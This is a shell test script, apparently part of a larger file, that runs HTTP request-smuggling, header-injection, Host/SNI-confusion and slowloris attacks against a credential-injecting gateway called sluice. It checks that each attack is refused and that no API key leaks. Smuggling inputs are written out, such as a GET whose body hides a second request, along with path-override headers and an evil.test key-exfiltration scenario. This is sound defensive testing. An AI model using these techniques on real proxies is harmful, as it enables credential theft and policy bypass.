        res, raw = results[name]()
    except Exception as e:  # an attack that broke reports it; the check fails
        res, raw = "error %s: %s" % (type(e).__name__, e), b""
    print("%s: %s" % (name, res))
    print("%s raw: %r" % (name, raw))
    sys.stdout.flush()
PY
chmod 644 "$T/atk-origin.py" "$T/attacks.py"

# The raw origin reuses the world's certificate (it names atk.test too), so
# one --upstream-ca covers both origins.
world_bg "$WORLD_NET" env ATK_KEY_FILES="$T/secrets/openai.key:$T/secrets/anthropic.key" \
	"$PY" "$T/atk-origin.py" "$T/atk.log" "$T/cert.pem" "$T/key.pem" "$X"
wait_for_file "$T/atk.log.ready"
[ -e "$T/atk.log.ready" ] || { echo "not ok - atk-origin.py did not start"; exit 1; }
touch "$T/atk.log"

cat >"$T/policy.yaml" <<P
version: 1
secrets:
  openai: { file: $T/secrets/openai.key }
  anthropic: { file: $T/secrets/anthropic.key }
allow:
  - host: api.anthropic.com
    methods: [POST]
    paths: ["/v1/messages", "/v1/messages/*"]
    inject: { header: x-api-key, secret: anthropic, placeholder_env: ANTHROPIC_API_KEY }
  - host: api.openai.com
    inject: { header: Authorization, prefix: "Bearer ", secret: openai, placeholder_env: OPENAI_API_KEY }
  - host: atk.test
    methods: [GET, HEAD, POST]
    inject: { header: x-api-key, secret: anthropic }
  - host: plain.test
    methods: [GET, POST]
  - host: atk-plain.test
    ports: [80]
P
chmod 644 "$T/policy.yaml"

run() {
	world_host "$SLUICE" run --ro "$T" --policy "$T/policy.yaml" --resolver "$N:53" \
		--upstream-ca "$T/cert.pem" --audit "$T/audit.log" -- env HOME="$T/work" "$@"
}
# The request lines origin.py served for a path (its query too), counted.
origin_count() { grep -c -- "^[A-Z]* $1 host=" "$T/origin.log"; }
atk_count() { grep -c -- "^[A-Z]* $1 host=" "$T/atk.log"; }
# One attack's result line out of $out.
res() { sed -n "s/^$1: //p" <<<"$out"; }

# In this order: the smuggling attacks come first, so that each finds its
# host's upstream pool empty and its next request takes the connection the
# hidden request is waiting on. The key's length goes in (key formats are
# public; it is what a smuggled request needs), never the key.
attacks=(smuggle-cl-conn smuggle-key-to-vhost smuggle-te-conn smuggle-host-conn
	cl-te dup-cl cl-list te-not-chunked te-space-colon obs-fold bare-lf
	chunk-size-hex-prefix chunk-size-overflow body-hides-request chunked-trailer-pipeline
	expect-continue leave-mid-body
	absform-https absform-other host-port host-idn host-two host-none host-userinfo
	host-other-xfh sni-other connect-plaintext nosni-inspected nosni-inspected-capture
	inject-games inject-fold
	r-103 r-reason r-head-body r-204-body r-304-body r-trailer r-chunkext r-gzip r-gzip-underscore r-gzip-anyway r-ce-none r-te-gzip r-close
	r-clte r-split r-bighead
	port80-connect port80-capture plain443-capture plain443-proxy
	pool-burst pool-open health)
out=$(run sh -c 'keylen=$1 py=$2 t=$3; shift 3
	KEYLEN=$keylen "$py" "$t/attacks.py" "$@"; echo "--- redirect"
	curl -sS -m 10 -L "https://atk.test/redirect?to=https://plain.test/echo-headers?via=redirect"' \
	sh "${#anthropic_key}" "$PY" "$T" "${attacks[@]}" 2>&1; echo "exit $?")
check "the attacks ran to the end" "exit 0" "$(tail -n 1 <<<"$out")"

# ---- request smuggling through Connection: a framing header named hop-by-hop ----
# The agent lists Content-Length (or Transfer-Encoding, or Host) in its
# Connection header. sluice frames the body by it, then drops it from the
# head it sends upstream as a hop-by-hop header: the origin reads no body,
# and the body is a request nobody decided, on a connection that carries
# the key. Pooled, it also took the next request in: its head, with the
# injected key, became the hidden request's headers or body. sluice now
# refuses (400) a request whose Connection names Content-Length,
# Transfer-Encoding or Host (http.c, check_framing).
r=$(res smuggle-cl-conn)
check "Connection: content-length inside the tunnel: the origin never ran the GET /v1/files hidden in the body (the rule allows only POST /v1/messages)" \
	"0" "$(origin_count /v1/files)"
check "... nor ran it with the injected key, completed by the agent's next request" "0" \
	"$(grep -c '^GET /v1/files host=api.anthropic.com auth=real$' "$T/origin.log")"
check "... and its answer never reached the agent" "0" "$(grep -c 'origin GET /v1/files' <<<"$r")"
check "a smuggled POST to another virtual host (Host: evil.test) never reached the origin" "0" \
	"$(atk_count /collect)"
check "... and the injected key never went in its body" "0" "$(grep -c 'body-has-key=1' "$T/atk.log")"
r=$(res smuggle-te-conn)
case $r in
"400 "* | *" body=5") ok "Connection: transfer-encoding: refused, or the origin read the chunked body sluice forwarded ($r)" ;;
*) notok "Connection: transfer-encoding: refused, or the origin read the chunked body sluice forwarded: got '$r', want 400 or body=5" ;;
esac
line=$(grep '^GET /host-conn ' "$T/origin.log")
if [ -z "$line" ] || [[ $line == *" host=api.openai.com "* ]]; then
	ok "Connection: host: refused, or the origin still got Host: api.openai.com"
else
	notok "Connection: host: refused, or the origin still got Host: api.openai.com: the origin logged '$line'"
fi

# ---- framing that servers read differently: refused before anything goes up ----
for a in cl-te dup-cl cl-list te-not-chunked te-space-colon obs-fold bare-lf \
	chunk-size-hex-prefix chunk-size-overflow absform-https absform-other host-two inject-fold; do
	check "$a: 400 inside the tunnel, and the connection closed" "400 closed" "$(res "$a")"
done
check "... no request hidden after them reached the origin" "0 0 0" \
	"$(origin_count /v1/files-clte) $(origin_count /v1/files-dupcl) $(grep -c '/v1/messages/absform' "$T/origin.log")"
check "a whole request as a correctly framed body, and one pipelined after it: the body stays a body, the second is decided (403)" \
	"400 403" "$(res body-hides-request)"
check "... the origin ran neither" "0 0" "$(origin_count /v1/files-body) $(origin_count /v1/files-pipe)"
# Chunk extensions and request trailers are refused (docs/gateway.md): some
# origins read them otherwise, and some merge trailers into the headers.
check "a chunked body with an extension and a trailer, then a pipelined GET: 400, closed" \
	"400 closed" "$(res chunked-trailer-pipeline)"
check "... the origin never saw the GET" "0" "$(origin_count /v1/files-trailer2)"
check "Expect: 100-continue: the 100 passes, the body that follows stays a body" \
	"HTTP/1.1 100 Continue | 400" "$(res expect-continue)"
check "... the origin never ran the request in it" "0" "$(origin_count /v1/files-expect)"
check "a client that leaves mid-body: the next request (new connection) is not swallowed by that body" \
	"200 origin POST /v1/messages/after-leave host=api.anthropic.com body=42" "$(res leave-mid-body)"

# ---- Host and SNI ----
for a in host-port host-idn host-none host-userinfo host-other-xfh; do
	check "$a: 421 inside the tunnel to api.anthropic.com" "421 closed" "$(res "$a")"
done
check "... the origin saw none of them" "0" "$(grep -c '/v1/messages/host-' "$T/origin.log")"
check "a ClientHello for plain.test inside CONNECT api.anthropic.com: closed" "closed" "$(res sni-other)"
# Decided as plain HTTP is: the host's rule injects a credential, which
# never goes over plain HTTP.
check "plain HTTP inside CONNECT to a credential host: 403 after the 200 (credential-needs-tls)" \
	"200 403" "$(res connect-plaintext)"
check "... the origin never saw it" "0" "$(origin_count /connect-plaintext)"
check "a ClientHello without SNI to an inspected host: TLS ends here, each request decided (GET 200, DELETE 403)" \
	"200 403" "$(res nosni-inspected)"
check "... the origin saw the GET only" "1 0" "$(origin_count /nosni-get) $(origin_count /nosni-delete)"
check "... and through capture: inspected too (GET 200, DELETE 403)" "200 403" \
	"$(res nosni-inspected-capture)"
check "... the origin saw the GET only" "1 0" "$(origin_count /nosni-cap-get) $(origin_count /nosni-cap-delete)"

# ---- the credential header ----
check "the inject header twice, in other cases, named in Connection, plus Proxy-Authorization: one Authorization arrives, none of the agent's" \
	"200 Authorization agent-values=0" "$(res inject-games)"
check "... the origin got the real key" "1" \
	"$(grep -c '^GET /echo-headers?games host=api.openai.com auth=real$' "$T/origin.log")"

# ---- responses that echo the key in awkward framings ----
check "the key in a 103 interim response's header: passed on scrubbed" "103 200" "$(res r-103)"
check "the key in the status line's reason phrase" "200" "$(res r-reason)"
check "a HEAD response with a body holding the key: the body is dropped, the next response is its own" \
	"200 200 | origin GET /after-head body=0" "$(res r-head-body)"
check "a 204 with a body holding the key: the same" "204 200 | origin GET /after-204 body=0" "$(res r-204-body)"
check "a 304 with a body holding the key: the same" "304 200 | origin GET /after-304 body=0" "$(res r-304-body)"
check "the key in a chunked response's trailer: trailers are not passed on" "200 b'ok\\n'" "$(res r-trailer)"
check "the key in a chunk extension: extensions are not passed on" "200 b'ok\\n'" "$(res r-chunkext)"
check "Accept-Encoding: gzip (twice, any case, named in Connection) and TE: gzip: the response is not compressed" \
	"200 identity" "$(res r-gzip)"
check "... the origin was asked for identity only" "ae=identity" \
	"$(grep '^GET /echo-gzip ' "$T/atk.log" | grep -o 'ae=.*')"
check "Accept_Encoding, Accept.Encoding, Accept~Encoding: gzip, to an origin that reads them as Accept-Encoding: not compressed" \
	"200 identity" "$(res r-gzip-underscore)"
check "... that origin was asked for identity only" "cgi-ae=identity" "$(grep '^cgi-ae=' "$T/atk.log")"
check "an origin that compresses though asked for identity: 502, nothing of it passed on" "502" \
	"$(res r-gzip-anyway)"
check "... nor with Transfer-Encoding: gzip, chunked" "502" "$(res r-te-gzip)"
check "... but Content-Encoding: none (a plain body, as streaming servers label it) passes, scrubbed" \
	"200" "$(res r-ce-none)"
check "the key at the very end of a close-delimited body" "200" "$(res r-close)"
check "a response with both Content-Length and Transfer-Encoding: 502" "502" "$(res r-clte)"
check "the key split across two TLS records, a moment apart" "200" "$(res r-split)"
check "a 200 KB response head: 502, not buffered" "502" "$(res r-bighead)"
redirect=$(sed -n '/^--- redirect$/,$p' <<<"$out")
check_has "a 302 to plain.test, followed by curl -L: it lands there" "Host: plain.test" "$redirect"
check "... and plain.test got no credential (sluice does not follow; the client's new request is decided on its own)" \
	"1" "$(grep -c '^GET /echo-headers?via=redirect host=plain.test auth=none$' "$T/origin.log")"
check_nokey "nothing the agent received holds a key" "$out"

# ---- the key only over verified TLS, to the rule's port ----
check "CONNECT api.openai.com:80, TLS inside: sluice speaks TLS to port 80 (a plain-HTTP origin there): 502" \
	"502" "$(res port80-connect)"
check "... and captured TLS to port 80: the same" "502" "$(res port80-capture)"
check "... the plain-HTTP origin on port 80 never got a request" "0 0" \
	"$(origin_count /port80-connect) $(origin_count /port80-capture)"
check "plain HTTP to api.openai.com:443, captured: 403 (a key only goes over TLS)" "403" "$(res plain443-capture)"
check "... and through the proxy: 403" "403" "$(res plain443-proxy)"
check "... both audited as credential-needs-tls" "2" \
	"$(grep -c '"path":"/plain443-[a-z]*".*"reason":"credential-needs-tls"' "$T/audit.log")"

# ---- upstream pool ----
check "ten concurrent requests to atk.test, each on its own client connection" \
	"200 200 200 200 200 200 200 200 200 200" "$(res pool-burst)"
n=$(res pool-open | sed -n 's/^200 open=//p')
check "... afterwards at most 4 upstream connections to it stay open (pool per host)" "yes" \
	"$([ -n "$n" ] && [ "$n" -ge 1 ] && [ "$n" -le 4 ] && echo yes)"
check "the gateway still answers after all of it" "200" "$(res health)"

# ---- heads rewritten header by header: compact heads grow ----
# 127 "name:value" headers: each a byte longer as "name: value". Under
# ASan, a buffer sized without that aborts sluice here.
out=$(run "$PY" "$T/attacks.py" req-many-headers resp-many-headers resp-many-headers-plain health 2>&1;
	echo "exit $?")
check "a request head of 128 compact headers to an injected host: forwarded" "200" "$(res req-many-headers)"
check "a response head of 128 compact headers, inspected: passed on" "200" "$(res resp-many-headers)"
check "... and over plain HTTP" "200" "$(res resp-many-headers-plain)"
check "... sluice is still alive after them" "200 exit 0" "$(res health) $(tail -n 1 <<<"$out")"
check_nokey "... nothing in that run held a key" "$out"

# ---- slowloris inside TLS ----
# sluice gateway with a short head deadline (1 s) and idle limit (3 s); the
# agent (here a client in the host namespace) trickles a head a byte every
# 0.4 s. Through the plain proxy that ends in a 408 at the deadline, and
# inside the TLS session too: the head deadline runs from a head's first
# byte until it is complete (every byte used to re-arm the idle timer).
world_host_bg "$SLUICE" gateway --policy "$T/policy.yaml" --listen 127.0.0.1:3128 \
	--resolver "$N:53" --upstream-ca "$T/cert.pem" --ca-dir "$T/ca" --audit "$T/gw-audit.log" \
	--header-timeout 1000 --idle-timeout 3000 2>"$T/gw.err"
gw_pid=$!
for _ in $(seq 50); do world_host ss -Hltn 'sport = :3128' | grep -q . && break; sleep 0.1; done
out=$(world_host env HTTPS_PROXY=http://127.0.0.1:3128 SSL_CERT_FILE="$T/ca/ca-bundle.crt" SLOW_FOR=4 \
	"$PY" "$T/attacks.py" slowloris-proxy slowloris slowloris-record 2>&1)
kill "$gw_pid" 2>/dev/null
wait "$gw_pid" 2>/dev/null
check "a head trickled to the proxy: 408 at the head deadline" "answered HTTP/1.1 408 Request Timeout" \
	"$(res slowloris-proxy)"
r=$(res slowloris)
case $r in
"closed after "[0-2]* | *" 408 "*) ok "a head trickled inside TLS: cut off at the head deadline ($r)" ;;
*) notok "a head trickled inside TLS: cut off at the head deadline (1 s): got '$r'" ;;
esac
# The same head in one TLS record trickled a byte at a time: no plaintext
# comes before the last byte, and the deadline still runs from the first.
r=$(res slowloris-record)
case $r in
"closed after "[0-2]* | *" 408 "*) ok "one TLS record holding a head, trickled: cut off at the head deadline ($r)" ;;
*) notok "one TLS record holding a head, trickled: cut off at the head deadline (1 s): got '$r'" ;;
esac

# ---- what reaches the origin is what was decided ----
# The Host is checked in its normal form, and sent on in it: an origin
# never sees a spelling (case, trailing dot, port) that was not decided.
out=$(run curl -sS -m 10 -H 'Host: PLAIN.Test.:443' https://plain.test/echo-headers?host-spelling 2>&1)
check "a Host spelled otherwise reaches the origin as the decided host" "Host: plain.test" \
	"$(grep -i '^host:' <<<"$out")"
# Where a rule names methods, a header that asks the origin to run another
# method than the request line's is refused.
out=$(run curl -s -m 10 -o /dev/null -w '%{http_code}' -H 'X-HTTP-Method-Override: DELETE' \
	https://plain.test/echo-headers?override 2>&1)
check "X-HTTP-Method-Override where the rule names methods: 400" "400" "$out"
check "... and the origin never saw it" "0" "$(origin_count '/echo-headers?override')"

# Where a rule compares paths, a header that some frameworks route by in
# place of the request line's path (Zend Framework 1, older Symfony) is
# refused: the origin would run a path no rule was asked about, with the key.
for h in 'X-Original-URL: /v1/files' 'x_rewrite_url: /v1/files' 'X.Original.URL: /v1/files'; do
	out=$(run curl -s -m 10 -w '%{http_code}' -X POST -d '{}' -H "$h" \
		'https://api.anthropic.com/v1/messages?path-override' 2>&1)
	check "${h%%:*} where the rule compares paths: 400 from sluice, saying why" \
		"400 path-override" "${out: -3} $(grep -o 'path-override' <<<"$out" | head -n 1)"
done
check "... and the origin never saw either" "0" "$(origin_count '/v1/messages?path-override')"
check "... audited as path-override" "3" "$(grep -c '"reason":"path-override"' "$T/audit.log")"

# Some origins read no body after a GET: its bytes would be a request
# nobody decided, on an upstream connection kept for the next one.
out=$(run curl -s -m 10 -o /dev/null -w '%{http_code}' -X GET --data-binary \
	$'GET /v1/hidden HTTP/1.1\r\nHost: plain.test\r\n\r\n' https://plain.test/echo-headers?get-body 2>&1)
check "a GET with a body inside the tunnel: 400" "400" "$out"
check "... and the origin saw neither it nor what its body held" "0 0" \
	"$(origin_count '/echo-headers?get-body') $(origin_count /v1/hidden)"

audit=$(cat "$T/audit.log" "$T/gw-audit.log" 2>/dev/null)
check "the audit logs hold no key" "no" "$(has_key "$audit" && echo yes || echo no)"
check_nokey "the origins' logs hold no key" "$(cat "$T/origin.log" "$T/atk.log")"
check "the canary saw nothing from any of it" "0" "$(world_canary_count)"
finish
